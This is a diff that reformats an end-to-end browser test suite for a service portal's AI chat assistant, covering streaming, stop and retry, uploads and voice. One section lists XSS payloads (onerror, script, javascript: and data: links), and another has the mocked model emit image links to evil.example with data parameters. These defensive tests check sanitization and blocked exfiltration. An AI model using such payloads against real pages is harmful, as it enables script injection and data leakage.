@@ -29,7 +29,21 @@ before(async () => {
   asr = await startFakeAsr()
   portal = await openPortal({
     flags: ['--use-fake-device-for-media-stream'],
-    config: { providerSite: 'https://provider.example/about', llm: [{ vendor: 'custom', displayName: 'Test', model: 'm', url: `${vendor.url}/chat/completions`, key: 'k', thinking: 'type' }], asr: { url: `${asr.url}/audio/transcriptions`, key: '', model: 'm' }, ocr: { url: `${eyes.url}/chat/completions`, key: '', model: 'm' } },
+    config: {
+      providerSite: 'https://provider.example/about',
+      llm: [
+        {
+          vendor: 'custom',
+          displayName: 'Test',
+          model: 'm',
+          url: `${vendor.url}/chat/completions`,
+          key: 'k',
+          thinking: 'type',
+        },
+      ],
+      asr: { url: `${asr.url}/audio/transcriptions`, key: '', model: 'm' },
+      ocr: { url: `${eyes.url}/chat/completions`, key: '', model: 'm' },
+    },
   })
 })
 after(async () => {
@@ -45,10 +59,15 @@ beforeEach(() => {
 /** A gate in a vendor's answer. */
 function gate(): { step: Step; open: () => void } {
   let open = (): void => undefined
-  const until = new Promise<void>(resolve => { open = resolve })
+  const until = new Promise<void>(resolve => {
+    open = resolve
+  })
   return { step: { until }, open }
 }
-const PARAGRAPHS = Array.from({ length: 40 }, (_, i) => `第 ${String(i + 1)} 段：先关闭电源，再取下滤网，用清水冲洗，晾干以后装回去。\n\n`)
+const PARAGRAPHS = Array.from(
+  { length: 40 },
+  (_, i) => `第 ${String(i + 1)} 段：先关闭电源，再取下滤网，用清水冲洗，晾干以后装回去。\n\n`,
+)
 
 /** Somebody who signed in, types rather than talks, and has the panel open. */
 async function withPanel(options: Parameters<Portal['signedIn']>[0] = {}): Promise<Phone> {
@@ -70,7 +89,8 @@ const answer = (phone: Phone): Locator => answers(phone).last()
 const questions = (phone: Phone): Locator => phone.page.locator('.chat-message--user')
 const list = (phone: Phone): Locator => phone.page.locator('.chat__list')
 /** What an answer says, without the line breaks between its blocks. */
-const said = async (phone: Phone): Promise<string> => (await answer(phone).locator('.md').allTextContents()).join('').replace(/\s+/g, '')
+const said = async (phone: Phone): Promise<string> =>
+  (await answer(phone).locator('.md').allTextContents()).join('').replace(/\s+/g, '')
 const whole = (steps: readonly string[]): string => steps.join('').replace(/\s+/g, '')
 
 async function ask(phone: Phone, question: string): Promise<void> {
@@ -81,7 +101,9 @@ const finished = (phone: Phone): Promise<void> => answer(phone).locator('.chat-m
 /** Calls of the contract that the browser makes from now on. */
 function callsOf(phone: Phone, call: string): string[] {
   const made: string[] = []
-  phone.context.on('request', request => { if (new URL(request.url()).pathname.endsWith(call)) made.push(request.url()) })
+  phone.context.on('request', request => {
+    if (new URL(request.url()).pathname.endsWith(call)) made.push(request.url())
+  })
   return made
 }
 
@@ -93,15 +115,30 @@ describe('writing a question', () => {
     const keys = await phone.context.newCDPSession(phone.page)
     await keys.send('Input.imeSetComposition', { text: 'kongtiao', selectionStart: 8, selectionEnd: 8 })
     // the input method takes the key: no character comes of it
-    await keys.send('Input.dispatchKeyEvent', { type: 'rawKeyDown', key: 'Enter', code: 'Enter', windowsVirtualKeyCode: 13 })
-    assert.deepEqual([await input(phone).inputValue(), asked.length, await questions(phone).count()], ['kongtiao', 0, 0])
+    await keys.send('Input.dispatchKeyEvent', {
+      type: 'rawKeyDown',
+      key: 'Enter',
+      code: 'Enter',
+      windowsVirtualKeyCode: 13,
+    })
+    assert.deepEqual(
+      [await input(phone).inputValue(), asked.length, await questions(phone).count()],
+      ['kongtiao', 0, 0],
+    )
     await keys.send('Input.insertText', { text: '空调不制冷' })
     await phone.page.keyboard.press('Shift+Enter')
     await phone.page.keyboard.type('怎么办')
     assert.equal(await input(phone).inputValue(), '空调不制冷\n怎么办')
     await phone.page.keyboard.press('Enter')
     await finished(phone)
-    assert.deepEqual([asked.length, await questions(phone).locator('.chat-message__bubble').allTextContents(), await input(phone).inputValue()], [1, ['空调不制冷\n怎么办'], ''])
+    assert.deepEqual(
+      [
+        asked.length,
+        await questions(phone).locator('.chat-message__bubble').allTextContents(),
+        await input(phone).inputValue(),
+      ],
+      [1, ['空调不制冷\n怎么办'], ''],
+    )
     await phone.leave()
   })
 
@@ -130,20 +167,27 @@ describe('writing a question', () => {
 
   test('the input stays above a keypad that covers the page, and above one that makes it smaller', async () => {
     const phone = await withPanel()
-    const bottom = async () => { const box = await phone.page.locator('.composer__bar').boundingBox(); return box ? box.y + box.height : Infinity }
+    const bottom = async () => {
+      const box = await phone.page.locator('.composer__bar').boundingBox()
+      return box ? box.y + box.height : Infinity
+    }
     await phone.page.evaluate(() => {
       // as iOS tells it: the window keeps its size, only the visual viewport shrinks
       Object.defineProperty(visualViewport, 'height', { value: 500, configurable: true })
       visualViewport?.dispatchEvent(new Event('resize'))
     })
-    await eventually(async () => assert.ok(await bottom() <= 500, `the input ends at ${String(await bottom())} px of 500`))
+    await eventually(async () =>
+      assert.ok((await bottom()) <= 500, `the input ends at ${String(await bottom())} px of 500`),
+    )
     await phone.page.evaluate(() => {
       Reflect.deleteProperty(visualViewport ?? {}, 'height')
       visualViewport?.dispatchEvent(new Event('resize'))
     })
-    await eventually(async () => assert.ok(await bottom() > 700))
+    await eventually(async () => assert.ok((await bottom()) > 700))
     await phone.page.setViewportSize({ width: 390, height: 460 })
-    await eventually(async () => assert.ok(await bottom() <= 460, `the input ends at ${String(await bottom())} px of 460`))
+    await eventually(async () =>
+      assert.ok((await bottom()) <= 460, `the input ends at ${String(await bottom())} px of 460`),
+    )
     assert.ok(((await phone.page.locator('.chat-head').boundingBox())?.y ?? -1) >= 0)
     await phone.leave()
   })
@@ -167,8 +211,15 @@ describe('an answer that comes', () => {
     assert.deepEqual([await busy(), await heard.textContent()], ['true', ''])
     second.open()
     await finished(phone)
-    await eventually(async () => assert.deepEqual([await busy(), await heard.textContent()], ['false', t('answerDone', { text: '真。她说：好的。' })]))
-    await answer(phone).getByRole('button', { name: t('thoughtFor', { n: 1 }).split('1')[0] ?? '' }).click()
+    await eventually(async () =>
+      assert.deepEqual(
+        [await busy(), await heard.textContent()],
+        ['false', t('answerDone', { text: '真。她说：好的。' })],
+      ),
+    )
+    await answer(phone)
+      .getByRole('button', { name: t('thoughtFor', { n: 1 }).split('1')[0] ?? '' })
+      .click()
     await thinking.getByText('先看看手册。').waitFor()
     await phone.accessible()
     await phone.leave()
@@ -177,10 +228,17 @@ describe('an answer that comes', () => {
   test('is followed, but does not pull a reader down who has scrolled up', async () => {
     const phone = await withPanel()
     const [more, rest] = [gate(), gate()]
-    vendor.script({ steps: [...PARAGRAPHS.slice(0, 20), more.step, ...PARAGRAPHS.slice(20, 35), rest.step, ...PARAGRAPHS.slice(35)] })
+    vendor.script({
+      steps: [...PARAGRAPHS.slice(0, 20), more.step, ...PARAGRAPHS.slice(20, 35), rest.step, ...PARAGRAPHS.slice(35)],
+    })
     await ask(phone, '怎么清洗？')
     await answer(phone).getByText('第 20 段').waitFor()
-    const place = () => list(phone).evaluate(one => ({ top: one.scrollTop, left: one.scrollHeight - one.scrollTop - one.clientHeight, height: one.scrollHeight }))
+    const place = () =>
+      list(phone).evaluate(one => ({
+        top: one.scrollTop,
+        left: one.scrollHeight - one.scrollTop - one.clientHeight,
+        height: one.scrollHeight,
+      }))
     await eventually(async () => assert.ok((await place()).left <= 1, 'the end is in sight'))
     await list(phone).hover()
     await phone.page.mouse.wheel(0, -300)
@@ -203,13 +261,20 @@ describe('an answer that comes', () => {
     const phone = await withPanel()
     // 160 marks, 25 tokens of four characters apart; the stream writes other letters as escapes
     const marks = Array.from({ length: 160 }, (_, i) => `#${String(i).padStart(3, '0')}`)
-    vendor.script({ steps: marks.flatMap((mark, i): Step[] => [`${mark}先关闭电源，再取下滤网，用清水冲洗，晾干以后装回去。${'检查进水阀和排水管。'.repeat(7)}${i % 4 === 3 ? '\n\n' : ''}`, { wait: 25 }]) })
+    vendor.script({
+      steps: marks.flatMap((mark, i): Step[] => [
+        `${mark}先关闭电源，再取下滤网，用清水冲洗，晾干以后装回去。${'检查进水阀和排水管。'.repeat(7)}${i % 4 === 3 ? '\n\n' : ''}`,
+        { wait: 25 },
+      ]),
+    })
     await phone.page.evaluate(() => {
       const [received, seen] = [new Map<string, number>(), new Map<string, number>()]
-      const note = (where: Map<string, number>, text: string) => { for (const [mark] of text.matchAll(/#\d{3}/g)) if (!where.has(mark)) where.set(mark, performance.now()) }
+      const note = (where: Map<string, number>, text: string) => {
+        for (const [mark] of text.matchAll(/#\d{3}/g)) if (!where.has(mark)) where.set(mark, performance.now())
+      }
       const { read } = ReadableStreamDefaultReader.prototype
       ReadableStreamDefaultReader.prototype.read = async function readAndNote(this: ReadableStreamDefaultReader) {
-        const part = await read.call(this) as ReadableStreamReadResult<Uint8Array>
+        const part = (await read.call(this)) as ReadableStreamReadResult<Uint8Array>
         if (part.value) note(received, new TextDecoder().decode(part.value))
         return part
       } as typeof read
@@ -218,14 +283,18 @@ describe('an answer that comes', () => {
         requestAnimationFrame(look)
       }
       look()
-      Object.assign(window, { lags: () => [...seen].flatMap(([mark, at]) => (received.has(mark) ? [at - (received.get(mark) ?? 0)] : [])) })
+      Object.assign(window, {
+        lags: () => [...seen].flatMap(([mark, at]) => (received.has(mark) ? [at - (received.get(mark) ?? 0)] : [])),
+      })
     })
     await ask(phone, '怎么清洗？')
     await finished(phone)
     const lags = await phone.page.evaluate(() => (window as unknown as { lags(): number[] }).lags())
     const middle = (some: number[]) => some.toSorted((a, b) => a - b)[some.length >> 1] ?? NaN
     const [early, late] = [middle(lags.slice(0, 40)), middle(lags.slice(-40))]
-    t2.diagnostic(`from receipt to the screen: ${early.toFixed(0)} ms at first, ${late.toFixed(0)} ms at last, ${Math.max(...lags).toFixed(0)} ms at most; 250 are wanted`)
+    t2.diagnostic(
+      `from receipt to the screen: ${early.toFixed(0)} ms at first, ${late.toFixed(0)} ms at last, ${Math.max(...lags).toFixed(0)} ms at most; 250 are wanted`,
+    )
     assert.ok(lags.length > 140, `${String(lags.length)} marks were seen`)
     assert.ok(late <= 3 * Math.max(early, 60), 'it does not fall behind')
     await phone.leave()
@@ -237,7 +306,9 @@ describe('an answer that comes', () => {
     board.target = portal.url
     const phone = await withPanel({ origin: board.url })
     const [first, second] = [gate(), gate()]
-    vendor.script({ steps: [...PARAGRAPHS.slice(0, 3), first.step, ...PARAGRAPHS.slice(3, 6), second.step, ...PARAGRAPHS.slice(6, 9)] })
+    vendor.script({
+      steps: [...PARAGRAPHS.slice(0, 3), first.step, ...PARAGRAPHS.slice(3, 6), second.step, ...PARAGRAPHS.slice(6, 9)],
+    })
     const [lines, before] = [callsOf(phone, ASK), vendor.asked.length]
     await ask(phone, '怎么清洗？')
     await answer(phone).getByText('第 3 段').waitFor()
@@ -277,7 +348,20 @@ describe('an answer that comes', () => {
   test('is still there after a reload, another screen and another conversation', async () => {
     const phone = await withPanel()
     const gates = [gate(), gate(), gate()]
-    vendor.script({ steps: [...PARAGRAPHS.slice(0, 2), gates[0]?.step ?? '', ...PARAGRAPHS.slice(2, 4), gates[1]?.step ?? '', ...PARAGRAPHS.slice(4, 6), gates[2]?.step ?? '', ...PARAGRAPHS.slice(6, 8)] }, { steps: ['另一个回答。'] })
+    vendor.script(
+      {
+        steps: [
+          ...PARAGRAPHS.slice(0, 2),
+          gates[0]?.step ?? '',
+          ...PARAGRAPHS.slice(2, 4),
+          gates[1]?.step ?? '',
+          ...PARAGRAPHS.slice(4, 6),
+          gates[2]?.step ?? '',
+          ...PARAGRAPHS.slice(6, 8),
+        ],
+      },
+      { steps: ['另一个回答。'] },
+    )
     await ask(phone, '怎么清洗？')
     await answer(phone).getByText('第 2 段').waitFor()
     // A, B, and A again
@@ -290,7 +374,9 @@ describe('an answer that comes', () => {
     await phone.page.locator('.chats__open').nth(1).click()
     await answer(phone).getByText('第 4 段').waitFor()
     // another screen of the portal
-    await phone.page.evaluate(() => { location.hash = '/mall/serviceCenter' })
+    await phone.page.evaluate(() => {
+      location.hash = '/mall/serviceCenter'
+    })
     await phone.at('/mall/serviceCenter')
     gates[1]?.open()
     await answer(phone).getByText('第 6 段').waitFor()
@@ -328,7 +414,11 @@ describe('an answer that comes', () => {
   test('stop ends it at the vendor, before the first word and after, and a late word changes nothing', async () => {
     const phone = await withPanel()
     const never = gate()
-    vendor.script({ steps: [never.step, '太晚了'] }, { steps: ['说了一半', never.step, '太晚了'] }, { steps: ['新的回答。'] })
+    vendor.script(
+      { steps: [never.step, '太晚了'] },
+      { steps: ['说了一半', never.step, '太晚了'] },
+      { steps: ['新的回答。'] },
+    )
     const before = vendor.asked.length
     await ask(phone, '第一问')
     await eventually(async () => assert.equal(vendor.asked.length, before + 1))
@@ -340,7 +430,9 @@ describe('an answer that comes', () => {
     await phone.page.locator('#assistant-stop').click()
     await eventually(async () => assert.notEqual(vendor.asked[before + 1]?.closedAfterMs, null))
     assert.equal(await phone.page.getByText(t('stopped')).count(), 2)
-    await answer(phone).getByRole('button', { name: t('retry') }).click()
+    await answer(phone)
+      .getByRole('button', { name: t('retry') })
+      .click()
     await answer(phone).getByText('新的回答。').waitFor()
     await finished(phone)
     never.open()
@@ -351,17 +443,33 @@ describe('an answer that comes', () => {
 
   test('an error that comes first, an answer without a word, and one that breaks off', async () => {
     const phone = await withPanel()
-    vendor.script({ steps: [{ error: { code: 'server_error', message: 'secret of the vendor' } }] }, { steps: [] }, { steps: ['说了一半', 'cut!'] }, { steps: ['好了。'] })
+    vendor.script(
+      { steps: [{ error: { code: 'server_error', message: 'secret of the vendor' } }] },
+      { steps: [] },
+      { steps: ['说了一半', 'cut!'] },
+      { steps: ['好了。'] },
+    )
     const before = vendor.asked.length
     await ask(phone, '第一问')
-    await questions(phone).last().getByRole('button', { name: t('resend') }).waitFor()
+    await questions(phone)
+      .last()
+      .getByRole('button', { name: t('resend') })
+      .waitFor()
     assert.equal(await answers(phone).count(), 0)
-    await questions(phone).last().getByRole('button', { name: t('resend') }).click()
+    await questions(phone)
+      .last()
+      .getByRole('button', { name: t('resend') })
+      .click()
     await eventually(async () => assert.equal(vendor.asked.length, before + 2))
-    await questions(phone).last().getByRole('button', { name: t('resend') }).click()
+    await questions(phone)
+      .last()
+      .getByRole('button', { name: t('resend') })
+      .click()
     await answer(phone).locator('.chat-message__error').waitFor()
     assert.match(await said(phone), /说了一半/)
-    await answer(phone).getByRole('button', { name: t('retry') }).click()
+    await answer(phone)
+      .getByRole('button', { name: t('retry') })
+      .click()
     await answer(phone).getByText('好了。').waitFor()
     assert.equal(await questions(phone).count(), 1)
     assert.equal(await phone.page.getByText('secret of the vendor').count(), 0)
@@ -370,7 +478,15 @@ describe('an answer that comes', () => {
 })
 
 describe('what a model may not do', () => {
-  const PAYLOADS = ['<img src=x onerror="window.pwned=1">', '<script>window.pwned=1</script>', '[tap](javascript:window.pwned=1)', '<a href="javascript:window.pwned=1">a</a>', '![x](javascript:window.pwned=1)', '<svg onload=window.pwned=1>', '[x](data:text/html,<script>window.pwned=1</script>)']
+  const PAYLOADS = [
+    '<img src=x onerror="window.pwned=1">',
+    '<script>window.pwned=1</script>',
+    '[tap](javascript:window.pwned=1)',
+    '<a href="javascript:window.pwned=1">a</a>',
+    '![x](javascript:window.pwned=1)',
+    '<svg onload=window.pwned=1>',
+    '[x](data:text/html,<script>window.pwned=1</script>)',
+  ]
   const isPwned = (phone: Phone) => phone.page.evaluate(() => 'pwned' in window)
 
   test('scripts in answers, questions, names of conversations and names of files stay text', async () => {
@@ -386,7 +502,8 @@ describe('what a model may not do', () => {
     await phone.page.locator('.chats__rename button').click()
     await phone.page.locator('.chats__theme', { hasText: '<svg onload' }).waitFor()
     await phone.page.keyboard.press('Escape')
-    for (const link of await answer(phone).locator('a').all()) assert.doesNotMatch(await link.getAttribute('href') ?? '', /^\s*(javascript|data):/i)
+    for (const link of await answer(phone).locator('a').all())
+      assert.doesNotMatch((await link.getAttribute('href')) ?? '', /^\s*(javascript|data):/i)
     assert.equal(await isPwned(phone), false)
     await phone.leave()
   })
@@ -394,9 +511,18 @@ describe('what a model may not do', () => {
   test('nothing leaves for another host without a tap', async () => {
     const phone = await withPanel()
     const foreign: string[] = []
-    phone.context.on('request', request => { if (!request.url().startsWith(portal.url) && /^https?:/.test(request.url())) foreign.push(request.url()) })
+    phone.context.on('request', request => {
+      if (!request.url().startsWith(portal.url) && /^https?:/.test(request.url())) foreign.push(request.url())
+    })
     await phone.context.route('https://evil.example/**', route => route.fulfill({ body: 'elsewhere' }))
-    vendor.script({ steps: ['![a](https://evil.example/p.png?data=1) ', '[看这里](https://evil.example/l?data=2) ', '<img src="https://evil.example/h.png"> ', '\n\n![b][r]\n\n[r]: https://evil.example/r.png\n\n结束。'] })
+    vendor.script({
+      steps: [
+        '![a](https://evil.example/p.png?data=1) ',
+        '[看这里](https://evil.example/l?data=2) ',
+        '<img src="https://evil.example/h.png"> ',
+        '\n\n![b][r]\n\n[r]: https://evil.example/r.png\n\n结束。',
+      ],
+    })
     await ask(phone, '看图')
     await answer(phone).getByText('结束。').waitFor()
     await finished(phone)
@@ -412,7 +538,10 @@ describe('what a model may not do', () => {
 
   test('a list and a table of 10,000 characters are drawn whole, and the screen stays in hand', async () => {
     const phone = await withPanel()
-    const rows = Array.from({ length: 260 }, (_, i) => `| 第 ${String(i)} 行 | 更换滤芯并记录读数 | ${'0123456789'.repeat(2)} |\n`)
+    const rows = Array.from(
+      { length: 260 },
+      (_, i) => `| 第 ${String(i)} 行 | 更换滤芯并记录读数 | ${'0123456789'.repeat(2)} |\n`,
+    )
     const items = Array.from({ length: 400 }, (_, i) => `- 第 ${String(i)} 项：检查水压、滤网和排水管\n`)
     vendor.script({ steps: ['| 甲 | 乙 | 丙 |\n|---|---|---|\n', ...rows, '\n', ...items] })
     await ask(phone, '列出来')
@@ -447,14 +576,26 @@ describe('order entry', () => {
     eyes.script({ steps: ['型号 KFR-72LW\n联系电话 13912345678'] })
     const panel = phone.page.locator('.assistant__panel')
     const heightOf = async () => (await panel.boundingBox())?.height ?? 0
-    assert.ok(Math.abs(await heightOf() - 844 * 0.7) < 2, `${String(await heightOf())} px`)
-    await phone.pickFiles(attach(phone), [{ name: '<img src=x onerror=window.pwned=1>.txt', mimeType: 'text/plain', buffer: Buffer.from('客厅空调漏水，明天下午三点以后上门，联系人王芳') }, await photo('nameplate.jpg')])
+    assert.ok(Math.abs((await heightOf()) - 844 * 0.7) < 2, `${String(await heightOf())} px`)
+    await phone.pickFiles(attach(phone), [
+      {
+        name: '<img src=x onerror=window.pwned=1>.txt',
+        mimeType: 'text/plain',
+        buffer: Buffer.from('客厅空调漏水，明天下午三点以后上门，联系人王芳'),
+      },
+      await photo('nameplate.jpg'),
+    ])
     await table(phone).getByText('13912345678').waitFor()
     assert.match(await table(phone).innerText(), /王芳/)
     assert.equal(await heightOf(), 844, 'a file takes the whole window')
-    assert.deepEqual([await questions(phone).locator('.chat-files__one').count(), await phone.page.evaluate(() => 'pwned' in window)], [2, false])
+    assert.deepEqual(
+      [await questions(phone).locator('.chat-files__one').count(), await phone.page.evaluate(() => 'pwned' in window)],
+      [2, false],
+    )
     assert.equal(eyes.asked.length, 1)
-    await answer(phone).getByRole('button', { name: t('fill') }).click()
+    await answer(phone)
+      .getByRole('button', { name: t('fill') })
+      .click()
     await phone.toast(/已填入/)
     assert.equal(await phone.field(repair.label('contactPhone')).getByRole('textbox').inputValue(), '13912345678')
     assert.equal(await phone.field(repair.label('contactName')).getByRole('textbox').inputValue(), '王芳')
@@ -464,12 +605,18 @@ describe('order entry', () => {
   test('a file that is too large, of another kind, or does not arrive is told by its name, and nothing is sent', async () => {
     const phone = await overForm()
     const asked = callsOf(phone, '/getFieldListAndNl2FormDataStream')
-    await phone.pickFiles(attach(phone), [{ name: 'big.txt', mimeType: 'text/plain', buffer: Buffer.alloc(10 * 1024 * 1024 + 1, 'a') }])
+    await phone.pickFiles(attach(phone), [
+      { name: 'big.txt', mimeType: 'text/plain', buffer: Buffer.alloc(10 * 1024 * 1024 + 1, 'a') },
+    ])
     await phone.toast(t('tooLarge', { names: 'big.txt' }))
-    await phone.pickFiles(attach(phone), [{ name: 'a.exe', mimeType: 'application/octet-stream', buffer: Buffer.from('MZ') }])
+    await phone.pickFiles(attach(phone), [
+      { name: 'a.exe', mimeType: 'application/octet-stream', buffer: Buffer.from('MZ') },
+    ])
     await phone.toast(t('wrongType', { names: 'a.exe' }))
     await phone.loseAnswer('/files/upload')
-    await phone.pickFiles(attach(phone), [{ name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('13912345678') }])
+    await phone.pickFiles(attach(phone), [
+      { name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('13912345678') },
+    ])
     await phone.toast(t('uploadFailed'))
     assert.deepEqual([asked.length, await questions(phone).count()], [0, 0])
     await phone.leave()
@@ -498,8 +645,14 @@ describe('order entry', () => {
 })
 
 test('a company without agents has the older assistant, until one switches its icon off', async () => {
-  await portal.db.update(aiAgents).set({ enable: false }).where(eq(aiAgents.tenantId, idOf('hengji tenant')))
-  const phone = await portal.signedIn({ domainId: 'hengji', kept: { 'chat-ai-input-mode': 'text', languageAsked: true } })
+  await portal.db
+    .update(aiAgents)
+    .set({ enable: false })
+    .where(eq(aiAgents.tenantId, idOf('hengji tenant')))
+  const phone = await portal.signedIn({
+    domainId: 'hengji',
+    kept: { 'chat-ai-input-mode': 'text', languageAsked: true },
+  })
   await phone.open('/mall/user')
   await phone.page.locator('#assistant').click()
   await phone.page.getByText(t('tabLegacy')).waitFor()
@@ -507,9 +660,22 @@ test('a company without agents has the older assistant, until one switches its i
   await phone.page.locator('.legacy textarea').press('Enter')
   await phone.at('/mall/company/info')
   await phone.page.locator('#assistant').click()
-  await phone.page.getByRole('button', { name: legacy('help') }).first().click()
+  await phone.page
+    .getByRole('button', { name: legacy('help') })
+    .first()
+    .click()
   await phone.page.getByRole('button', { name: legacy('icon') }).click()
-  await eventually(async () => assert.equal((await portal.ok('GET /api/app/outside/switch/query', { ...(await portal.linkman('13900000000', 'hengji')).as, query: { type: 'VOICE_ICON_SWITCH' } })).status, 0))
+  await eventually(async () =>
+    assert.equal(
+      (
+        await portal.ok('GET /api/app/outside/switch/query', {
+          ...(await portal.linkman('13900000000', 'hengji')).as,
+          query: { type: 'VOICE_ICON_SWITCH' },
+        })
+      ).status,
+      0,
+    ),
+  )
   await phone.reload()
   await new Promise(resolve => setTimeout(resolve, 4000))
   assert.equal(await phone.page.locator('#assistant').count(), 0)
@@ -521,10 +687,15 @@ test('the button is drawn off what it covers, and is still a button there, on th
   await phone.open('/mall/user')
   const button = phone.page.locator('#assistant')
   await button.waitFor()
-  const place = async () => { const box = await button.boundingBox(); assert.ok(box); return { x: box.x + box.width / 2, y: box.y + box.height / 2 } }
+  const place = async () => {
+    const box = await button.boundingBox()
+    assert.ok(box)
+    return { x: box.x + box.width / 2, y: box.y + box.height / 2 }
+  }
   const from = await place()
   const finger = await phone.context.newCDPSession(phone.page)
-  const touch = (type: 'touchStart' | 'touchMove' | 'touchEnd', y: number) => finger.send('Input.dispatchTouchEvent', { type, touchPoints: type === 'touchEnd' ? [] : [{ x: from.x, y }] })
+  const touch = (type: 'touchStart' | 'touchMove' | 'touchEnd', y: number) =>
+    finger.send('Input.dispatchTouchEvent', { type, touchPoints: type === 'touchEnd' ? [] : [{ x: from.x, y }] })
   await touch('touchStart', from.y)
   for (let moved = 20; moved <= 300; moved += 20) await touch('touchMove', from.y - moved)
   // a finger that is still moving when it leaves begins a fling, which the next tap only ends
@@ -532,7 +703,9 @@ test('the button is drawn off what it covers, and is still a button there, on th
   await touch('touchEnd', from.y - 300)
   await eventually(async () => assert.ok(Math.abs((await place()).y - (from.y - 300)) <= 2, 'it follows the finger'))
   assert.equal(await phone.page.locator('.composer').count(), 0, 'drawing is no tap')
-  await phone.page.evaluate(() => { location.hash = '/mall/serviceCenter' })
+  await phone.page.evaluate(() => {
+    location.hash = '/mall/serviceCenter'
+  })
   await phone.at('/mall/serviceCenter')
   assert.ok(Math.abs((await place()).y - (from.y - 300)) <= 2)
   await button.tap()
@@ -599,10 +772,17 @@ describe('voice', () => {
     await phone.leave()
   })
 
-  for (const [name, problem] of [['NotAllowedError', 'denied'], ['NotFoundError', 'notFound'], ['NotSupportedError', 'unsupported'], ['AbortError', 'other']] as const) {
+  for (const [name, problem] of [
+    ['NotAllowedError', 'denied'],
+    ['NotFoundError', 'notFound'],
+    ['NotSupportedError', 'unsupported'],
+    ['AbortError', 'other'],
+  ] as const) {
     test(`${name} of the microphone is told in words`, async () => {
       const phone = await talking()
-      await phone.page.addInitScript(one => { if (isSecureContext) navigator.mediaDevices.getUserMedia = () => Promise.reject(new DOMException('', one)) }, name)
+      await phone.page.addInitScript(one => {
+        if (isSecureContext) navigator.mediaDevices.getUserMedia = () => Promise.reject(new DOMException('', one))
+      }, name)
       await openPanel(phone)
       await press(phone)
       await phone.page.getByText(microphone(`microphone.${problem}`)).waitFor()
@@ -620,7 +800,15 @@ test('twenty long answers leave no more behind than what they say', async t2 => 
     await device.send('HeapProfiler.collectGarbage')
     return (await device.send('Runtime.getHeapUsage')).usedSize
   }
-  vendor.script({ steps: [...PARAGRAPHS, '```js\n', ...Array.from({ length: 60 }, (_, i) => `const a${String(i)} = ${String(i)}\n`), '```\n', '结束。'] })
+  vendor.script({
+    steps: [
+      ...PARAGRAPHS,
+      '```js\n',
+      ...Array.from({ length: 60 }, (_, i) => `const a${String(i)} = ${String(i)}\n`),
+      '```\n',
+      '结束。',
+    ],
+  })
   const sizes: number[] = []
   for (let i = 0; i < 20; i++) {
     await ask(phone, `第 ${String(i + 1)} 问`)
@@ -630,6 +818,9 @@ test('twenty long answers leave no more behind than what they say', async t2 => 
   }
   t2.diagnostic(sizes.map(size => `${String(Math.round(size / 1024))} KB`).join(', '))
   const [five = 0, ten = 0, fifteen = 0, twenty = 0] = sizes
-  assert.ok(twenty - fifteen <= 2 * Math.max(ten - five, 500_000), 'the last five answers take no more than the second five')
+  assert.ok(
+    twenty - fifteen <= 2 * Math.max(ten - five, 500_000),
+    'the last five answers take no more than the second five',
+  )
   await phone.leave()
 })
